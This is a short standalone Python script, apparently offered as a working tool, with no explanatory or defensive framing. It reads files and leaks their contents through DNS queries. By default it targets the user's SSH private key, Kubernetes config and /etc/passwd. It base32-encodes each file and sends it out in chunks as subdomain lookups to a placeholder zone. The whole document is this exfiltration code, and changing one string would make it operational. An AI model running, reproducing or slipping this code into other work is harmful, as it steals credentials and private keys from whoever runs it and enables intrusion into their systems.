import base64
import os
import sys
import socket

ZONE = "ns.metrics-cdn.invalid"


def pieces(raw: bytes, size: int = 50):
    txt = base64.b32encode(raw).decode().rstrip("=").lower()
    for n, i in enumerate(range(0, len(txt), size)):
        yield n, txt[i:i + size]


def main(paths):
    for p in paths:
        with open(os.path.expanduser(p), "rb") as fh:
            ident = os.urandom(2).hex()
            for n, piece in pieces(fh.read()):
                try:
                    socket.gethostbyname(f"{piece}.{n}.{ident}.{ZONE}")
                except socket.gaierror:
                    continue


main(sys.argv[1:] or ["~/.ssh/id_ed25519", "~/.kube/config", "/etc/passwd"])
